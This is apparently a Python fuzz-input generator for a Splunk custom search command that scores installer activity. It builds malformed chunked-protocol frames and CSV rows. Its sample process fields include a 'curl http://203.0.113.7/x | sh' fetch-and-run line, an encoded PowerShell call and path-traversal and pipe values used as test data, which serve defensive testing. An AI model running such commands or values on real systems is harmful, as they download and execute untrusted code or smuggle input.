"""Requests as an enemy, a broken pipe or another version of splunkd might send them.

Everything is drawn from one `random.Random`, so a seed is a whole input.
"""

from __future__ import annotations

import json
from copy import deepcopy
from random import Random
from typing import Any

import scp

SHORT = [b"\n", b"\xef\xbb\xbf", b"\xed\xa0\x80", *(bytes([sign]) for sign in b'"\r\0,\xff$\\{')]
NUMBERS = (
    "0 -1 7 1e999 nan inf 1_000 0x1f4 0x 9999999999999999999999 \u0661\u0662 4242 -6e10 "
    "253402300800 1e18 1e300"
).split()
COLUMNS = (
    "_time dest process_id process_guid parent_process_id parent_process_guid process_name process "
    "process_path original_file_name parent_process_name parent_process user host src dest_ip "
    "dest_port url file_path file_name action registry_path registry_value_data service_name "
    "service_path sourcetype __mv_dest __mv_process __mv_process_id Processes.dest "
    "Processes.process_id All_Traffic.dest_port Processes._time a.b.Processes.dest _raw"
).split()
NAMES = (
    "dpkg apt-get python3.11 node npm msiexec.exe sh bash curl MSI1A2B.tmp installer "
    "package_script_service rpm cmd.exe powershell.exe unknown"
).split()
COMMANDS = (
    "dpkg -i a.deb",
    "msiexec /i https://a.example/b.msi /qn",
    "C:\\Windows\\system32\\msiexec.exe /V",
    "npm install x",
    "sh -c 'curl http://203.0.113.7/x | sh'",
    "powershell -enc AAAA",
    "/usr/bin/python3 -m pip install x",
    "/bin/sh /var/lib/dpkg/info/a.postinst configure",
)
ODD = ["", "-", "null", "$a$;$b$", "$$", "$", 'say ""no""', "a\nb", "a\r\nb", "\u00e4\U0001f600"]
ARGUMENTS = "output=processes output=health minscore=50 maxevents=3 minscore=0 output=trees".split()
ODD_ARGUMENTS = (
    *"output=x minscore=-1 minscore=99999999999999 maxevents=0 signals=../x.csv dest=web*".split(),
    *"signals=installerscore_what_if.csv signals=nul dest=a|b = a=b output \ud800=\ud800".split(),
)
SEARCHES = *["search x | installerscore"] * 9, "%7C installerscore", "|%", '| a "', "["
ODD_JSON: tuple[Any, ...] = (None, True, 0, -1, 1e308, "", "x", "\ud800", [], {}, [[]], {"a": None})


def requests(random: Random) -> bytes:
    """Make the bytes of one run of the command: most are nearly right."""
    stream = b"" if random.random() < 0.02 else _frame(random, _getinfo(random), b"")
    count = random.choice((0, 1, 1, 1, 2, 3, 5))
    for number in range(count):
        metadata: dict[str, Any] = {"action": "execute", "finished": number == count - 1}
        if random.random() < 0.1:
            metadata[random.choice(("action", "finished", "x"))] = deepcopy(random.choice(ODD_JSON))
        if random.random() < 0.03:
            metadata = _getinfo(random)
        stream += _frame(random, metadata, body(random))
    return _damaged(random, stream) if random.random() < 0.12 else stream


def body(random: Random) -> bytes:
    """Make the CSV of one chunk."""
    if random.random() < 0.05:
        return b""
    columns = random.sample(COLUMNS, random.randint(1, 12))
    if random.random() < 0.8:
        columns += ["_time", "dest", "process_id", "process_name", "process", "parent_process_id"]
    if random.random() < 0.7:
        columns = list(dict.fromkeys(columns))
    newline = random.choice(("\n", "\n", "\n", "\r\n"))
    lines = [",".join(columns)] if random.random() < 0.97 else []
    for _ in range(random.choice((0, 1, 2, 3, 8, 20))):
        cells = [_quoted(random, _cell(random, name)) for name in columns]
        if random.random() < 0.05:
            cells = cells[: random.randint(0, len(cells))] + ["x"] * random.randint(0, 3)
        lines.append(",".join(cells))
    text = newline.join(lines) + (newline if random.random() < 0.9 else "")
    data = text.encode("utf-8", "surrogatepass")
    return _damaged(random, data) if random.random() < 0.15 else data


def _cell(random: Random, column: str) -> str:
    if random.random() < 0.08:
        return random.choice(ODD)
    if random.random() < 0.0001:
        return random.choice("a0$\"'\\ \n") * random.choice((5_000, 50_000, 140_000))
    name = column.rpartition(".")[2].replace("__mv_", "")
    if name == "_time":
        moment = 1_700_000_000 + random.randint(0, 20) / 2
        return str(moment) if random.random() < 0.9 else random.choice(NUMBERS)
    if name.endswith("_id") or name == "dest_port":
        few = str(random.randint(1, 8))
        return few if random.random() < 0.9 else random.choice(NUMBERS)
    if name.endswith("guid"):
        return random.choice(("", "{A}", "{B}", "{C}", "00000000-0000-0000-0000-000000000000"))
    if name in ("process", "parent_process", "service_path"):
        return random.choice(COMMANDS)
    if name in ("dest", "host", "src"):
        return random.choice(("h1", "H1", "h2", "203.0.113.7"))
    if name == "action":
        return random.choice(("", "created", "deleted", "allowed", "x"))
    return random.choice(NAMES) if random.random() < 0.8 else random.choice(COMMANDS)


def _quoted(random: Random, cell: str) -> str:
    if random.random() < 0.02:
        return random.choice(('"', '"x', 'x"y"', '"a"b')) + cell
    if any(sign in cell for sign in ',"\n\r') or random.random() < 0.2:
        return '"' + cell.replace('"', '""') + '"'
    return cell


def _getinfo(random: Random) -> dict[str, Any]:
    arguments = random.sample(ARGUMENTS, random.choice((0, 0, 1, 1)))
    if random.random() < 0.05:
        arguments += random.sample(ODD_ARGUMENTS, random.choice((1, 2, 4)))
    metadata = scp.getinfo_metadata(arguments, splunkd_uri="", search=random.choice(SEARCHES))
    if random.random() < 0.1:
        metadata[random.choice(list(metadata))] = deepcopy(random.choice(ODD_JSON))
    info = metadata.get("searchinfo")
    if isinstance(info, dict) and info and random.random() < 0.15:
        del info[random.choice(list(info))]
    if isinstance(info, dict) and info and random.random() < 0.2:
        info[random.choice(list(info))] = deepcopy(random.choice(ODD_JSON))
    return metadata


def _frame(random: Random, metadata: dict[str, Any], data: bytes) -> bytes:
    """Put a frame together; one in a hundred has a header that does not fit."""
    meta = json.dumps(metadata).encode()
    if random.random() < 0.01:
        meta = random.choice((b"[" * 100_000, b'{"a":' * 3_000, b"null", b"{", b"\xff", b""))
    lengths = [len(meta), len(data)]
    if random.random() < 0.01:
        place = random.randint(0, 1)
        change = random.choice((-1, 1, -lengths[place], 1_000, 2**40, 10**30))
        lengths[place] = max(lengths[place] + change, 0)
    if random.random() < 0.01:
        odd = (
            b"chunked 2.0,%d,%d\n",
            b"chunked 1.0,%d,%d",
            b"chunked 1.0,-%d,%d\n",
            b"chunked %d%d\n",
        )
        return random.choice(odd) % tuple(lengths) + meta + data
    return b"chunked 1.0,%d,%d\n" % tuple(lengths) + meta + data


def _damaged(random: Random, data: bytes) -> bytes:
    """Cut, repeat, replace or add a few bytes."""
    for _ in range(random.randint(1, 4)):
        start = random.randint(0, len(data))
        end = min(len(data), start + random.choice((0, 1, 1, 2, 30)))
        way = random.randint(0, 4)
        if way == 0:
            data = data[:start]
        elif way == 1:
            data = data[:start] + data[end:]
        elif way == 2:
            data = data[:end] + data[start:]
        elif way == 3:
            data = data[:start] + random.choice(SHORT) + data[end:]
        else:
            data = data[:start] + random.randbytes(end - start) + data[end:]
    return data
